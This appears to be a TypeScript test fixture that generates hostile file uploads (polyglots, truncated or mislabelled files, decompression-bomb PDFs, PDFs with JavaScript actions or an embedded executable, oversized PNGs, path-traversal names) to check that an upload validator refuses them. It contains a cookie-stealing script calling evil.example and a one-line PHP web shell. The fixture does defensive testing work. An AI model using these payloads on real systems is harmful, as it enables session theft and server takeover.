@@ -1,0 +1,209 @@
+import { crc32, deflateRawSync, deflateSync } from 'node:zlib';
+import sharp from 'sharp';
+import { aPng, pngChunk } from './pictures.ts';
+
+/** An upload that must be refused; `says` are the codes that may say why. */
+export type HostileFile = { name: string; type: string; fileName?: string; bytes: Buffer; says: string[] };
+
+const script = '<script>fetch("//evil.example/"+document.cookie)</script>';
+const unreadable = ['FILE_UNREADABLE'];
+const wrongType = ['FILE_TYPE'];
+
+/** A PDF of these objects, with a right table of them. */
+export function aPdf(objects: string[], { trailer = '', after = '' } = {}): Buffer {
+  const parts = ['%PDF-1.7\n'];
+  const places: number[] = [];
+  for (const [index, object] of objects.entries()) {
+    places.push(Buffer.byteLength(parts.join(''), 'latin1'));
+    parts.push(`${index + 1} 0 obj\n${object}\nendobj\n`);
+  }
+  const start = Buffer.byteLength(parts.join(''), 'latin1');
+  const rows = places.map((place) => `${String(place).padStart(10, '0')} 00000 n \n`).join('');
+  parts.push(`xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${rows}`);
+  parts.push(
+    `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R ${trailer} >>\nstartxref\n${start}\n%%EOF\n${after}`,
+  );
+  return Buffer.from(parts.join(''), 'latin1');
+}
+
+/** The objects of a page with this text; `catalogue` and `page` are added to theirs. */
+export function pdfPage(text: string, { catalogue = '', page = '', more = [] as string[] } = {}): string[] {
+  const content = `BT /F1 24 Tf 72 700 Td (${text}) Tj ET`;
+  return [
+    `<< /Type /Catalog /Pages 2 0 R ${catalogue} >>`,
+    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
+    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> ${page} >>`,
+    `<< /Length ${content.length} >>\nstream\n${content}\nendstream`,
+    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
+    ...more,
+  ];
+}
+
+/** A page whose content is `bytes` of zeros, compressed. */
+function pdfBomb(bytes: number): Buffer {
+  const packed = deflateSync(Buffer.alloc(bytes)).toString('latin1');
+  const objects = pdfPage('x');
+  objects[3] = `<< /Length ${packed.length} /Filter /FlateDecode >>\nstream\n${packed}\nendstream`;
+  return aPdf(objects);
+}
+
+/** A zip with one stored entry. */
+function aZip(name: string, content: Buffer): Buffer {
+  const data = deflateRawSync(content);
+  const local = Buffer.alloc(30);
+  local.writeUInt32LE(0x04034b50, 0);
+  local.writeUInt16LE(8, 8);
+  local.writeUInt32LE(crc32(content), 14);
+  local.writeUInt32LE(data.length, 18);
+  local.writeUInt16LE(name.length, 26);
+  const end = Buffer.alloc(22);
+  end.writeUInt32LE(0x06054b50, 0);
+  return Buffer.concat([local, Buffer.from(name), data, end]);
+}
+
+/** A PNG that says it has these sides, with few bytes behind it. */
+function pngSaying(width: number, height: number): Buffer {
+  const header = Buffer.alloc(13);
+  header.writeUInt32BE(width, 0);
+  header.writeUInt32BE(height, 4);
+  header.set([8, 6], 8);
+  return Buffer.concat([
+    Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'),
+    pngChunk('IHDR', header),
+    pngChunk('IDAT', deflateSync(Buffer.alloc(100_000))),
+    pngChunk('IEND', Buffer.alloc(0)),
+  ]);
+}
+
+const scriptsInPdf: [string, Parameters<typeof pdfPage>[1]][] = [
+  ['a script on opening', { catalogue: '/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>' }],
+  [
+    'a named script',
+    { catalogue: '/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (app.alert\\(1\\)) >>] >> >>' },
+  ],
+  ['a script of the page', { page: '/AA << /O << /S /JavaScript /JS (app.alert\\(1\\)) >> >>' }],
+  ['a script on closing', { catalogue: '/AA << /WC << /S /JavaScript /JS (app.alert\\(1\\)) >> >>' }],
+  [
+    'another file',
+    {
+      catalogue: '/Names << /EmbeddedFiles << /Names [(a.exe) 6 0 R] >> >>',
+      more: ['<< /Type /Filespec /F (a.exe) /EF << /F 7 0 R >> >>', '<< /Length 2 >>\nstream\nMZ\nendstream'],
+    },
+  ],
+];
+
+async function images() {
+  const one = (background: string) =>
+    sharp({ create: { width: 40, height: 40, channels: 3, background } })
+      .png()
+      .toBuffer();
+  const base = sharp({ create: { width: 90, height: 60, channels: 3, background: '#37c' } });
+  return {
+    jpeg: await base.clone().jpeg().toBuffer(),
+    webp: await base.clone().webp().toBuffer(),
+    gif: await base.clone().gif().toBuffer(),
+    tiff: await base.clone().tiff().toBuffer(),
+    avif: await base.clone().avif().toBuffer(),
+    moving: await sharp([await one('#f00'), await one('#00f')], { join: { animated: true } })
+      .webp()
+      .toBuffer(),
+    png: aPng({ width: 90, height: 60 }),
+  };
+}
+
+const svg = `<svg xmlns="http://www.w3.org/2000/svg">${script}</svg>`;
+const foreign: [string, Buffer][] = [
+  ['a script', Buffer.from(script)],
+  ['a page', Buffer.from(`<!DOCTYPE html><html>${script}</html>`)],
+  ['PHP', Buffer.from('<?php system($_GET[0]); ?>')],
+  ['a drawing', Buffer.from(svg)],
+  ['a zip', aZip('evil.class', Buffer.from('cafebabe'))],
+  ['a PDF', aPdf(pdfPage('hidden'))],
+  ['a program', Buffer.from('\x7fELF\x02\x01\x01\0\0\0', 'latin1')],
+];
+
+/** At least 200 uploads that are not what they say or would harm whoever reads them; always the same. */
+export async function hostileFiles(): Promise<HostileFile[]> {
+  const given = await images();
+  const good = [
+    ['image/png', given.png],
+    ['image/jpeg', given.jpeg],
+    ['image/webp', given.webp],
+    ['application/pdf', aPdf(pdfPage('Hello'))],
+  ] as const;
+  const found: HostileFile[] = [];
+  const add = (name: string, type: string, bytes: Buffer, says: string[], fileName = 'x') =>
+    found.push({ name, type, bytes, says, fileName });
+
+  for (const [type, bytes] of good) {
+    for (const [what, behind] of foreign)
+      add(`${type} and ${what}`, type, Buffer.concat([bytes, behind]), unreadable);
+    for (const part of [0.1, 0.2, 0.3, 0.4, 0.5, 0.6, 0.7, 0.8, 0.9, 0.97])
+      add(`${type} cut at ${part}`, type, bytes.subarray(0, Math.floor(bytes.length * part)), [
+        ...unreadable,
+        ...wrongType,
+      ]);
+    for (const [other] of good) {
+      if (other !== type) add(`${type} said to be ${other}`, other, bytes, wrongType);
+    }
+    for (const text of ['text/plain', 'text/markdown', 'text/csv'])
+      add(`${type} said to be ${text}`, text, bytes, wrongType);
+    add(`${type} with nothing in it`, type, Buffer.alloc(0), unreadable);
+    for (const [what, alone] of foreign) {
+      if (!(type === 'application/pdf' && what === 'a PDF'))
+        add(`${what} said to be ${type}`, type, alone, wrongType);
+    }
+    add(`${type} of noise`, type, Buffer.concat([bytes.subarray(0, 12), Buffer.alloc(500, 7)]), unreadable);
+  }
+  const kinds: [string, Buffer][] = [
+    ['image/gif', given.gif],
+    ['image/tiff', given.tiff],
+    ['image/avif', given.avif],
+    ['image/svg+xml', Buffer.from(svg)],
+    ['text/html', Buffer.from(script)],
+    ['application/zip', aZip('a', Buffer.from('a'))],
+    ['application/xhtml+xml', Buffer.from(script)],
+    ['application/javascript', Buffer.from('alert(1)')],
+    ['application/octet-stream', given.png],
+  ];
+  for (const [type, bytes] of kinds) {
+    add(type, type, bytes, wrongType);
+    for (const other of ['image/png', 'image/jpeg', 'application/pdf']) {
+      if (type !== 'application/octet-stream') add(`${type} said to be ${other}`, other, bytes, wrongType);
+    }
+  }
+  for (const [width, height] of [
+    [100_000, 100_000],
+    [65_535, 65_535],
+    [2_000_000_000, 2],
+    [1, 2_000_000_000],
+    [7000, 6000],
+    [0, 10],
+  ] as const)
+    add(`a PNG of ${width} × ${height}`, 'image/png', pngSaying(width, height), unreadable);
+  add('a PNG with too few pixels', 'image/png', pngSaying(5000, 5000), unreadable);
+  add('a moving WebP', 'image/webp', given.moving, unreadable);
+  for (const megabytes of [60, 200, 400])
+    add(`a PDF of ${megabytes} MB`, 'application/pdf', pdfBomb(megabytes * 1024 * 1024), unreadable);
+  for (const [what, facts] of scriptsInPdf)
+    add(`a PDF with ${what}`, 'application/pdf', aPdf(pdfPage('Hello', facts)), unreadable);
+  add('a PDF without text', 'application/pdf', aPdf(pdfPage('')), unreadable);
+  add('a PDF without pages', 'application/pdf', aPdf(['<< /Type /Catalog >>']), unreadable);
+  const loop = pdfPage('x');
+  loop[1] = '<< /Type /Pages /Kids [2 0 R] /Count 1 >>';
+  add('a PDF whose pages go round', 'application/pdf', aPdf(loop), unreadable);
+  for (const bytes of [
+    [0xff, 0xfe, 65, 0],
+    [0xc0, 0xaf],
+    [0xed, 0xa0, 0x80],
+    [65, 0, 66],
+    [27, 91, 50, 74],
+    [32, 10],
+  ])
+    for (const type of ['text/plain', 'text/csv', 'text/markdown'])
+      add(`bytes ${bytes} said to be ${type}`, type, Buffer.from(bytes), unreadable);
+  add('a file of 11 MB', 'text/plain', Buffer.alloc(11 * 1024 * 1024, 97), ['FILE_TOO_LARGE']);
+  for (const path of ['../../etc/passwd', 'C:\\Windows\\x.exe', '/dev/null', '\0', '%00.png', '..%2f..%2fx'])
+    add(`damaged, named ${JSON.stringify(path)}`, 'image/png', given.png.subarray(0, 40), unreadable, path);
+  return found;
+}
